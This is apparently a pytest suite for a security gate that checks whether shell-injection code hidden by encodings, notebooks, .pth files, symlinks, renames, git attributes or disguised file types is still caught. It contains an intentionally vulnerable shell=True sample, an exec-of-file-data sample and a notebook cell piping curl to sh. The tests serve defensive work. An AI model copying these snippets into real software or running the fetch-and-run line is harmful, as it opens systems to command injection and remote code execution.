"""Issue 9 points 1-6 and 14: no change gets past the gate by where or how its code is written.

Each test builds a real repository whose change hides a shell injection one way, runs the real
pipeline with a real analyzer (bandit; semgrep and pylint are switched off to keep it quick) and
checks the mechanism that catches it, so each fails if its protection were removed.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from gitrepo import GitRepo

from gate.catalog import find_rule
from gate.model import Disposition, GateResult, Outcome, ScanMode, ScanRequest
from gate.pipeline import run
from gate.report.base import RenderOptions
from gate.report.json import render_json

CHEAP = "[analyzers.semgrep]\nenabled = false\n[analyzers.pylint]\nenabled = false\n"
VULN = "import subprocess\nimport sys\n\nsubprocess.call(sys.argv[1], shell=True)\n"
"""bandit/B602 (high) on line 4."""


def start(repo: GitRepo, config: str = "", files: dict[str, str | bytes] | None = None) -> None:
    """Base commit on main with ``config`` (top-level keys) + CHEAP, then branch feature."""
    config_file = config + CHEAP
    repo.commit("base", files={".aigate.toml": config_file, "README.md": "app\n", **(files or {})})
    repo.checkout("-b", "feature")


def scan(repo: GitRepo, mode: ScanMode = ScanMode.RANGE, **kw: object) -> GateResult:
    if mode is ScanMode.RANGE:
        kw = {"base": "main", "head": "feature", **kw}
    return run(ScanRequest(mode, repo.root, **kw))  # type: ignore[arg-type]


def blocking(result: GateResult) -> set[tuple[str, str, int]]:
    return {
        (d.finding.rule_id, d.finding.location.path, d.finding.location.start_line)
        for d in result.verdict.decisions
        if d.disposition is Disposition.BLOCKING
    }


def unjudged(result: GateResult) -> dict[str, str]:
    return {s.path: s.reason for s in result.changeset.skipped if s.unjudged}


# 1. encodings and size ---------------------------------------------------------------------


def test_coding_cookie_is_decoded_as_python_does(repo: GitRepo) -> None:
    start(repo)
    source = "# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n" + VULN
    repo.commit("latin-1 module", files={"app.py": source.encode("latin-1")})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.FAIL
    assert ("bandit/B602", "app.py", 6) in blocking(result)
    assert not result.changeset.skipped


def test_bom_and_crlf_and_form_feed_keep_their_lines(repo: GitRepo) -> None:
    start(repo)
    text = "\ufeff" + "\f\n" + VULN.replace("\n", "\r\n")
    repo.commit("bom", files={"app.py": text.encode("utf-8")})
    result = scan(repo)
    assert ("bandit/B602", "app.py", 5) in blocking(result)


def test_form_feed_does_not_shift_snippets_or_fingerprints(repo: GitRepo) -> None:
    start(repo)
    repo.commit("ff", files={"app.py": VULN.replace("\n\n", "\n\f\nACCEPTED = 1\n")})
    result = scan(repo)
    [shell] = [d.finding for d in result.verdict.decisions if d.finding.rule_id == "bandit/B602"]
    assert shell.location.start_line == 5
    assert shell.snippet == "subprocess.call(sys.argv[1], shell=True)"


def test_oversized_python_is_not_judged_and_blocks(repo: GitRepo) -> None:
    start(repo, "max_file_size = 300\n")
    repo.commit("big", files={"big.py": VULN + "# padding\n" * 50})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert unjudged(result)["big.py"].startswith("larger than max_file_size")
    assert any("not judged: big.py" in r for r in result.verdict.reasons)


def test_unjudged_fail_policy_gives_fail(repo: GitRepo) -> None:
    start(repo, 'max_file_size = 300\nunjudged = "fail"\n')
    repo.commit("big", files={"big.py": VULN + "# padding\n" * 50})
    assert scan(repo).verdict.outcome is Outcome.FAIL


def test_undecodable_python_blocks(repo: GitRepo) -> None:
    start(repo)
    repo.commit("bad", files={"app.py": b"# coding: ascii\nx = '\xe9'\n"})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert "ascii" in unjudged(result)["app.py"]


@pytest.mark.parametrize(
    "source",
    [
        b"# coding: utf-7\nx = 1  #+AAo-import subprocess, sys+ADs- subprocess.call(sys.argv[1])\n",
        b"x = 1\rimport subprocess, sys; subprocess.call(sys.argv[1], shell=True)\n",
    ],
    ids=["utf-7", "lone-cr"],
)
def test_hidden_source_text_is_a_finding_and_blocks(repo: GitRepo, source: bytes) -> None:
    start(repo)
    repo.commit("hidden", files={"app.py": source})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert "app.py" in unjudged(result)
    rules = {d.finding.rule_id for d in result.verdict.decisions}
    assert "aigate/hidden-source-text" in rules
    assert ("aigate/hidden-source-text", "app.py", 1) in blocking(result)
    assert find_rule("aigate/hidden-source-text").cwe == (451,)


# 2. Python not named .py ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "source", "line"),
    [
        ("tool.pyw", VULN, 4),
        ("bin/pinger", "#!/usr/bin/env python3\n" + VULN, 5),
        ("scripts/run", "#!/usr/bin/env -S uv run --script\n" + VULN, 5),
        ("bin/bom", "\ufeff#!/usr/bin/env python3\n" + VULN, 5),
        ("APP.PY", VULN, 4),
        ("trailing.py ", VULN, 4),
    ],
)
def test_python_by_kind_not_suffix(repo: GitRepo, path: str, source: str, line: int) -> None:
    start(repo)
    repo.commit("script", files={path: source})
    result = scan(repo)
    assert ("bandit/B602", path, line) in blocking(result)


def notebook(*cells: list[str]) -> str:
    doc = {
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Ping\n"]},
            *(
                {
                    "cell_type": "code",
                    "execution_count": None,
                    "metadata": {},
                    "outputs": [],
                    "source": lines,
                }  # fmt: skip
                for lines in cells
            ),
        ],
        "metadata": {"kernelspec": {"language": "python", "name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(doc, indent=1) + "\n"


def test_notebook_code_cells_are_judged_at_their_own_lines(repo: GitRepo) -> None:
    start(repo)
    text = notebook(
        ["!pip install requests\n", "import subprocess\n", "import sys"],
        ["%matplotlib inline\n", "subprocess.call(sys.argv[1], shell=True)"],
    )
    repo.commit("notebook", files={"ping.ipynb": text})
    result = scan(repo)
    line = 1 + text.split("\n").index('    "subprocess.call(sys.argv[1], shell=True)"')
    assert ("bandit/B602", "ping.ipynb", line) in blocking(result)
    assert result.verdict.outcome is Outcome.FAIL


@pytest.mark.parametrize("name", ["tool.py", "tool.ipynb"])
def test_calibration_reads_notebook_cells_as_python(repo: GitRepo, name: str) -> None:
    # exec of data read from a file: no rule of ours confirms it (a call-only bandit check),
    # calibration keeps it blocking as an escape. It must read a notebook's code, not its JSON.
    code = ["import pathlib\n", "payload = pathlib.Path('job.txt').read_text()\n", "exec(payload)"]
    config = "[analyzers.pylint]\nenabled = false\n[analyzers.mypy]\nenabled = false\n"
    repo.commit("base", files={".aigate.toml": config, "README.md": "app\n"})
    repo.checkout("-b", "feature")
    text = notebook(code) if name.endswith(".ipynb") else "".join(code) + "\n"
    repo.commit("tool", files={name: text})
    result = scan(repo)
    assert {rule for rule, path, _line in blocking(result) if path == name} == {"bandit/B102"}


def test_notebook_that_cannot_be_mapped_blocks(repo: GitRepo) -> None:
    start(repo)
    text = notebook(["%%bash\n", "curl https://example.invalid | sh\n"])
    repo.commit("notebook", files={"nb.ipynb": text})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert "%%bash" in unjudged(result)["nb.ipynb"]


def test_pth_import_lines_are_judged(repo: GitRepo) -> None:
    start(repo)
    pth = "src\nimport subprocess, sys; subprocess.call(sys.argv[1], shell=True)\n"
    repo.commit("pth", files={"evil.pth": pth})
    assert ("bandit/B602", "evil.pth", 2) in blocking(scan(repo))


def test_compiled_python_blocks_unread(repo: GitRepo) -> None:
    start(repo)
    repo.commit("pyc", files={"helpers.pyc": b"\x6f\x0d\x0d\x0a\0\0\0\0garbage"})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert "compiled" in unjudged(result)["helpers.pyc"]


def test_python_under_a_name_that_is_not_utf8_blocks_with_the_reason(repo: GitRepo) -> None:
    # git keeps the bytes; Python holds them as surrogate escapes. The analyzers cannot open
    # such a name (it crashed the fingerprint, then semgrep skipped it and mypy died).
    name = b"na\xefve.py".decode("utf-8", "surrogateescape")
    start(repo)
    repo.commit("odd name", files={name: VULN})
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert "not UTF-8" in unjudged(result)[name]
    text = render_json(result, RenderOptions())
    assert "na\\udcefve.py" in text or "na\\xefve.py" in text  # written, escaped, not lost


# 3. the change's own .gitattributes ---------------------------------------------------------


@pytest.mark.parametrize("attributes", ["*.py -diff\n", "*.py binary\n", "*.py diff=evil\n"])
def test_gitattributes_cannot_hide_added_lines(repo: GitRepo, attributes: str) -> None:
    start(repo, files={"app.py": "import subprocess\nimport sys\n"})
    repo.git("config", "diff.evil.textconv", "true")  # a textconv that shows nothing
    repo.commit(
        "attributes", files={".gitattributes": attributes, "app.py": VULN.replace("\n\n", "\n")}
    )
    result = scan(repo)
    assert ("bandit/B602", "app.py", 3) in blocking(result)
    assert ".gitattributes" in result.changeset.gate_files_changed


def test_missing_blob_of_unanalysed_file_does_not_fail_the_scan(repo: GitRepo) -> None:
    start(repo)
    repo.commit("video", files={"demo.mp4": b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 8,
                                "app.py": VULN})  # fmt: skip
    blob = repo.git("rev-parse", "feature:demo.mp4").strip()
    (repo.root / ".git" / "objects" / blob[:2] / blob[2:]).unlink()  # a partial mirror
    result = scan(repo)
    assert ("bandit/B602", "app.py", 4) in blocking(result)
    assert {s.path for s in result.changeset.skipped} == {"demo.mp4"}


# 4. symlinks ----------------------------------------------------------------------------------


def test_symlink_is_judged_as_its_target(repo: GitRepo) -> None:
    start(repo, files={"lib/core": VULN})  # data at base: no python name, no shebang
    os.symlink("lib/core", repo.root / "pinger.py")
    repo.commit("link")
    result = scan(repo)
    assert ("bandit/B602", "lib/core", 4) in blocking(result)


@pytest.mark.parametrize("target", ["/etc/hostname", "../outside.py", "sub/../../x.py"])
def test_symlink_leaving_the_repo_is_listed_and_blocks(repo: GitRepo, target: str) -> None:
    start(repo)
    os.symlink(target, repo.root / "evil.py")
    repo.commit("link")
    result = scan(repo)
    assert result.verdict.outcome is Outcome.ERROR
    assert unjudged(result)["evil.py"].startswith("symlink not followed")


def test_paths_through_a_symlinked_dir_never_read_outside(repo: GitRepo, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.py").write_text("TOKEN = 'TOP-SECRET-VALUE'\n" + VULN)
    start(repo)
    os.symlink(outside, repo.root / "ext")
    repo.commit("link")
    result = scan(repo, ScanMode.PATHS, paths=(str(repo.root / "ext" / "secret.py"),))
    assert result.verdict.outcome is Outcome.ERROR
    assert "ext/secret.py" in unjudged(result)
    assert not result.changeset.files
    assert "TOP-SECRET-VALUE" not in render_json(result, RenderOptions())


# 5. renames -----------------------------------------------------------------------------------


def test_rename_from_an_excluded_path_is_judged_whole(repo: GitRepo) -> None:
    start(repo, 'exclude = ["tests/fixtures/**"]\n', {"tests/fixtures/vuln_sample.py": VULN})
    (repo.root / "app").mkdir()
    repo.git("mv", "tests/fixtures/vuln_sample.py", "app/ping.py")
    repo.commit("move")
    result = scan(repo)
    assert ("bandit/B602", "app/ping.py", 4) in blocking(result)


def test_rename_of_data_into_init_py_is_judged_whole(repo: GitRepo) -> None:
    start(repo, files={"pkg/notes.txt": VULN})
    repo.git("mv", "pkg/notes.txt", "pkg/__init__.py")
    repo.commit("move")
    assert ("bandit/B602", "pkg/__init__.py", 4) in blocking(scan(repo))


def test_type_change_into_a_symlink_is_judged(repo: GitRepo) -> None:
    start(repo, files={"app.py": "x = 1\n", "lib/core": VULN})
    (repo.root / "app.py").unlink()
    os.symlink("lib/core", repo.root / "app.py")
    repo.commit("now a link")
    assert ("bandit/B602", "lib/core", 4) in blocking(scan(repo))


# 6. submodules --------------------------------------------------------------------------------


def test_submodule_is_listed_not_crashed(repo: GitRepo, tmp_path: Path) -> None:
    start(repo)
    sub = GitRepo(tmp_path / "sub")
    sha = sub.commit("sub", files={"x.py": VULN})
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{sha},vendor/sub")
    (repo.root / "vendor" / "sub").mkdir(parents=True)  # not checked out, as in a CI clone
    repo.commit("submodule", files={"app.py": VULN})
    result = scan(repo)
    skipped = {s.path: s for s in result.changeset.skipped}
    assert skipped["vendor/sub"].reason.startswith(f"submodule (gitlink) at {sha[:12]}")
    assert ("bandit/B602", "app.py", 4) in blocking(result)


# 14. --staged reads gate files from the index -------------------------------------------------


def test_staged_gate_files_come_from_the_index(repo: GitRepo) -> None:
    repo.commit("base", files={".aigate.toml": CHEAP})
    repo.write("app.py", VULN)
    repo.git("add", "app.py")
    repo.write(".aigate.toml", 'human_fail_on = "never"\n[analyzers.bandit]\nenabled = false\n')
    result = scan(repo, ScanMode.STAGED)
    assert ("bandit/B602", "app.py", 4) in blocking(result)
    assert result.config_source == ".aigate.toml at index"
    assert any("unstaged" in n and ".aigate.toml" in n for n in result.notices)


def test_textconv_cannot_hide_work_tree_lines(repo: GitRepo) -> None:
    start(
        repo, files={"app.py": "import subprocess\nimport sys\n", ".gitattributes": "*.py diff=x\n"}
    )
    repo.git("config", "diff.x.textconv", "true")  # shows every version as empty
    repo.write("app.py", VULN.replace("\n\n", "\n"))
    result = scan(repo, ScanMode.WORKTREE)
    assert ("bandit/B602", "app.py", 3) in blocking(result)


def test_notebook_of_another_language_is_listed(repo: GitRepo) -> None:
    start(repo)
    text = notebook(["print(1)\n"]).replace('"language": "python"', '"language": "R"')
    repo.commit("r notebook", files={"analysis.ipynb": text})
    result = scan(repo)
    skipped = {s.path: s for s in result.changeset.skipped}
    assert "not Python" in skipped["analysis.ipynb"].reason
    assert not skipped["analysis.ipynb"].unjudged


def test_audit_judges_python_by_kind(repo: GitRepo) -> None:
    repo.commit(
        "base",
        files={
            ".aigate.toml": CHEAP,
            "bin/pinger": "#!/usr/bin/env python3\n" + VULN,
            "LICENSE": "MIT\n",
        },
    )
    result = scan(repo, ScanMode.ALL, all_lines=True)
    assert ("bandit/B602", "bin/pinger", 5) in blocking(result)
    assert [f.path for f in result.changeset.files] == ["bin/pinger"]


def test_symlinked_directory_makes_its_modules_count_as_changed(repo: GitRepo) -> None:
    start(repo, 'exclude = ["vendor/legacy/**"]\n', {"vendor/legacy/vuln.py": VULN})
    (repo.root / "app").mkdir()
    os.symlink("../vendor/legacy", repo.root / "app" / "plugins")
    os.symlink(".", repo.root / "loop")  # a link cycle must not hang the collector
    repo.commit("link a directory")
    result = scan(repo)
    assert ("bandit/B602", "vendor/legacy/vuln.py", 4) in blocking(result)


def test_executable_with_a_binary_suffix_is_sniffed(repo: GitRepo) -> None:
    start(repo)
    path = repo.write("assets/logo.png", "#!/usr/bin/python3\n" + VULN)
    path.chmod(0o755)
    repo.commit("executable png")
    assert ("bandit/B602", "assets/logo.png", 5) in blocking(scan(repo))
